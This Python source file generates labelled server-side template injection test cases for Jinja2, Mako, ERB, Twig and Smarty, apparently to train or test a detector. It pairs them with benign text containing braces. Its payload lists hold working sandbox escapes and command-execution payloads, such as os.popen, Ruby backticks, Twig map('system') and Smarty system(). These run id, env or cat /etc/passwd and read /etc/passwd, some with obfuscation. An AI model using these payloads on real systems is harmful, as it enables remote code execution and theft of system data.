"""Server-side template injection: what the template of an application becomes if a value is put into its source."""

import re

from ground.case import Case

# Objects from which the engines that are written in Python reach the operating system.
PYTHON_REACH = ["cycler.__init__.__globals__.os.popen('{}').read()", "lipsum.__globals__['os'].popen('{}').read()", "joiner.__init__.__globals__.os.popen('{}').read()",
                "namespace.__init__.__globals__['os'].popen('{}').read()", "self.__init__.__globals__.__builtins__.__import__('os').popen('{}').read()",
                "''.__class__.__mro__[1].__subclasses__()|length", "''.__class__.__base__.__subclasses__()|count", "request|attr('x')|default(lipsum.__globals__.os.popen('{}').read())",
                "dict.mro()[-1].__subclasses__()|length", "x.__class__|default(cycler.next.__globals__.os.popen('{}').read())", "lipsum|attr('__globals__')|attr('get')('os')|attr('popen')('{}')|attr('read')()",
                "lipsum['__glo'+'bals__']['os']['popen']('{}')['read']()", "lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('get')('os')|attr('popen')('{}')|attr('read')()", "g|default(cycler)|attr('__init__')|attr('__globals__')|string|length",
                "(lipsum|attr(['__glo','bals__']|join)).os.popen('{}').read()", "config|default(lipsum.__globals__).os.popen('{}').read()"]
MAKO_REACH = ["__import__('os').popen('{}').read()", "self.module.cache.util.os.popen('{}').read()", "self.template.module.runtime.util.os.popen('{}').read()", "open('/etc/passwd').read()", "context.lookup or __import__('os').popen('{}').read()",
              "eval('__im'+'port__(\"os\")').popen('{}').read()", "''.__class__.__mro__[1].__subclasses__()", "self.attr._NSAttr__parent.module.cache.util.os.popen('{}').read()", "[c for c in (1).__class__.__base__.__subclasses__()]"]
RUBY_REACH = ["`{}`", "%x({})", "IO.popen('{}').read", "File.read('/etc/passwd')", "File.open('/etc/passwd').read", "system('{}')", "exec('{}')", "Kernel.`('{}')", "open('|{}').read", "eval('`{}`')", "Dir.entries('/')", "Dir['/*']", "self.class.name", "ENV.to_h", "Object.const_get(:Kernel).send(:`,'{}')",
              "require 'open3';Open3.capture2('{}')", "instance_eval('`{}`')", "'{}'.then{{|c| `#{{c}}`}}".replace("{{", "{").replace("}}", "}"), "Process.clock_gettime(1)&&`{}`", "IO.read('/etc/passwd')", "IO.binread('/etc/passwd')", "__send__(:system,'{}')"]
TWIG_REACH = ["['{}']|map('system')|join", "['{}']|filter('system')", "['{}',0]|sort('system')", "['{}']|map('passthru')|join(',')", "{'{}':1}|map('system')|join", "['{}']|reduce('system')", "_self.env.registerUndefinedFilterCallback('exec')", "_self|json_encode", "dump()", "_context|keys|join", "app.request|default(['{}']|map('shell_exec')|join)", "source('index')", "constant('PHP_OS')", "['{}']|map('exec')|join", "'/etc/passwd'|file_excerpt(1,30)"]
SMARTY_REACH = ["system('{}')", "shell_exec('{}')", "passthru('{}')", "$smarty.version", "$smarty.template_object->smarty->template_dir|print_r", "file_get_contents('/etc/passwd')", "phpversion()", "readfile('/etc/passwd')", "exec('{}')", "'{}'|system", "'{}'|shell_exec", "'/etc/passwd'|file_get_contents", "fetch file='/etc/passwd'", "include file='/etc/passwd'", "include file='eval:x'", "$smarty.server.PATH", "$smarty.const.PHP_OS", "math equation='7*7'"]
COMMANDS = ["id", "cat /etc/passwd", "whoami", "uname -a", "ls /etc", "env"]


def product(r):
    a, b = r.choice([(7, 7), (191, 7), (1337, 3), (r.randint(100, 9999), r.randint(100, 9999)), (49, 51)])
    return f"{a}*{b}", str(a * b)


def command(r, text):
    return text.replace("{}", r.choice(COMMANDS))


def jinja(r):
    tag = r.choice([("{{", "}}"), ("{{ ", " }}"), ("{{-", "-}}")])
    a, b = tag
    expression, value = product(r)
    kind = r.randrange(5)
    if kind == 0:
        return "arithmetic", a + r.choice([expression, f"{expression.replace('*', ' * ')}", f"({expression})", f"[{expression}][0]", f"{expression}|string", f"'{expression.split('*')[0]}'|int*{expression.split('*')[1]}"]) + b, value
    if kind == 1:
        n = r.randint(3, 7)
        return "arithmetic", r.choice([f"{a}{n}*'{n}'{b}", f"{a}'{n}'*{n}{b}", f"{a}('{n}'*{n})|string{b}"]), str(n) * n
    if kind == 2:
        return "object", a + r.choice(["config", "self", "self.__dict__", "cycler", "lipsum", "lipsum.__globals__", "dict", "namespace()", "config.items()", "config|string", "joiner", "self._TemplateReference__context", "''.__class__", "().__class__.__bases__", "[].__class__.__base__", "config['SECRET']", "config.SECRET"]) + b, ""
    if kind == 3:
        inner = command(r, r.choice(PYTHON_REACH))
        return "reach", r.choice([a + inner + b, "{%print(" + inner.split("|string")[0] + ")%}" if "|length" not in inner else a + inner + b, "{% set x=" + inner + " %}{{x}}", "{%if 1%}" + a + inner + b + "{%endif%}", "{% with x=" + inner + " %}{{x}}{% endwith %}"]), ""
    return "statement", r.choice(["{% for x in [" + expression + "] %}{{x}}{% endfor %}", "{%if " + expression + "%}{{" + expression + "}}{%endif%}", "{% set a=" + expression + " %}{{a}}", "{%print(" + expression + ")%}", "{% for c in ''.__class__.__mro__ %}{{c}}{% endfor %}", "{% for k,v in config.items() %}{{v}}{% endfor %}", "{%macro m()%}{{" + expression + "}}{%endmacro%}{{m()}}"]), value


def mako(r):
    expression, value = product(r)
    inner = command(r, r.choice(MAKO_REACH))
    return r.choice([("arithmetic", "${" + expression + "}", value), ("arithmetic", "${ " + expression + " }", value), ("arithmetic", "<% x=" + expression + " %>${x}", value), ("reach", "${" + inner + "}", ""), ("reach", "<%\nimport os\nx=os.popen('id').read()\n%>${x}", ""),
                     ("reach", "<% import os;context.write(os.popen('id').read()) %>", ""), ("statement", f"% for x in [{expression}]:\n${{x}}\n% endfor\n", value), ("object", r.choice(["${self.module}", "${dir()}", "${context.keys()}", "${self.template}", "${self.attr}"]), ""), ("reach", "<%! import os %>${os.popen('id').read()}", ""), ("reach", "${" + inner + "|n}", "")])


def erb(r):
    expression, value = product(r)
    inner = command(r, r.choice(RUBY_REACH))
    a, b = r.choice([("<%=", "%>"), ("<%= ", " %>"), ("<%=", "-%>")])
    return r.choice([("arithmetic", a + expression + b, value), ("reach", a + inner + b, ""), ("reach", a + inner + b, ""), ("reach", "<% x=" + inner + " %><%=x%>", ""), ("object", a + r.choice(["self", "ENV", "local_variables", "methods", "RUBY_VERSION", "Dir.pwd", "$0", "__FILE__", "binding", "global_variables"]) + b, ""), ("reach", "<% puts " + inner + " %>", ""), ("statement", "<% [" + expression + "].each do |x| %><%= x %><% end %>", value), ("reach", "<% " + inner + " %>", "")])


def twig(r):
    expression, value = product(r)
    inner = command(r, r.choice(TWIG_REACH))
    return r.choice([("arithmetic", "{{" + expression + "}}", value), ("arithmetic", "{{ " + expression + " }}", value), ("arithmetic", "{{(" + expression + ")|e}}", value), ("reach", "{{" + inner + "}}", ""), ("reach", "{{ " + inner + " }}", ""), ("reach", "{% set x=" + inner + " %}{{x}}", ""), ("statement", "{% for x in [" + expression + "] %}{{x}}{% endfor %}", value),
                     ("object", r.choice(["{{_context|json_encode}}", "{{_charset}}", "{{_self}}", "{{constant('PHP_VERSION')}}", "{{ _context|keys|join }}", "{{include('index')}}", "{{ source('index') }}", "{{max(7,49)~49}}", "{{random()}}", "{{range(1,9)|join}}", "{{'a'~'b'}}"]), ""), ("statement", "{% if " + expression + " %}{{" + expression + "}}{% endif %}", value)])


def smarty(r):
    expression, value = product(r)
    inner = command(r, r.choice(SMARTY_REACH))
    return r.choice([("arithmetic", "{" + expression + "}", value), ("arithmetic", "{math equation='" + expression + "'}", value), ("reach", "{" + inner + "}", ""), ("reach", "{" + inner + "}", ""), ("statement", "{if system('id')}{/if}", ""), ("statement", "{if " + expression + "}{" + expression + "}{/if}", value), ("object", r.choice(["{$smarty.version}", "{$smarty.template}", "{$smarty.now}", "{$smarty.server.PATH}", "{$smarty.env.PATH}", "{$smarty.const.PHP_VERSION}"]), ""),
                     ("reach", "{assign var=x value=" + (inner if "(" in inner and "$" not in inner else "system('id')") + "}{$x}", ""), ("reach", "{" + "'id'|system" + "}", ""), ("statement", "{foreach [" + expression + "] as $x}{$x}{/foreach}", value), ("reach", "{include file='string:{system(\"id\")}'}", ""), ("reach", "{eval var='{system(\"id\")}'}", "")])


DIALECTS = {"jinja2": jinja, "mako": mako, "erb": erb, "twig": twig, "smarty": smarty}
DATA = ["", "", "", "Anna", "x", "Hello ", "1"]


def obfuscate(r, name, text):
    match name:
        case "white space":
            return re.sub(r"(\{\{|\}\}|\{%|%\}|<%=|%>)", lambda m: m[1] + " " if m[1][0] in "{<" else " " + m[1], text)
        case "line ends":
            return re.sub(r"(\{\{|<%=) ?", lambda m: m[1] + r.choice(["\n", "\t", "\n\n"]), text)
        case "brackets":
            return re.sub(r"\.(__\w+__)", r"['\1']", text)
        case "concatenation":
            return re.sub(r"'(\w{4,})'", lambda m: f"'{m[1][:2]}'+'{m[1][2:]}'" if "|" not in text else m[0], text)
        case "quotes":
            return text.replace("'", '"')
    return text


OBFUSCATIONS = ["none", "none", "none", "white space", "line ends", "brackets", "concatenation", "quotes"]


def attacks(r, target, count):
    for _ in range(count):
        technique, text, value = DIALECTS[target](r)
        name = r.choice(OBFUSCATIONS)
        text = obfuscate(r, name, text)
        before = r.choice(DATA)
        extra = (("tag", before + value),) if value else ()
        yield Case("ssti", target, "text", technique, name, before + text, extra=extra)


PROSE = ["Hello {name}", "Dear {{name}}", "Hi {{ first_name }}, welcome", "{{user.name}} has joined", "{% raw %}", "100% off", "50 % of {all}", "${price}", "$5 {each}", "<b>bold</b>", "<%", "%>", "{a: 1}", "{\"a\": {\"b\": 1}}", "{{", "}}", "{ {x} }", "a {b} c", "#{tag}", "C# {get; set;}", "function(){return 1}", "x = {y}", "{0} of {1}", "%s and %d", "{{placeholder}}",
         "Order {{order.id}} shipped", "{{#if x}}", "{{> partial}}", "{{{raw}}}", "let x = `${y}`", "{1,2,3}", "set {a, b}", "if (a) { b(); }", "{{date}} - {{time}}", "<%= name %>", "{$name}", "{lang en}", "{* comment *}", "{# comment #}", "7*7", "49", "2*3 = 6", "{left}", "$$", "{{$index}}", "[[x]]", "{{ 'text' | translate }}"]


def benign(r, target, count):
    for _ in range(count):
        text = r.choice(PROSE) if r.random() < 0.5 else f"{r.choice(PROSE)}{r.choice([' ', ', ', ' - ', '; '])}{r.choice(PROSE)}"
        yield Case("ssti", target, "text", "text with braces", "none", text, benign=True)
